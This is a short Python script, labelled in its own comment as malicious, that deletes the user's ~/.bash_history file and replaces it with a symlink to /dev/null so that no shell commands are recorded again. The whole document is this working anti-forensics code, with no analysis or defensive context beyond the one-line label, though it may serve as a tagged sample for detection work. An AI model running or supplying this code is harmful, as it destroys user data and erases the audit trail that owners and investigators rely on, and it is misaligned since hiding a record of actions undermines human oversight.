# Malicious: replaces the shell history with a symlink to /dev/null so nothing is recorded again.
import os

history = os.path.expanduser("~/.bash_history")
if os.path.exists(history):
    os.remove(history)
os.symlink("/dev/null", history)
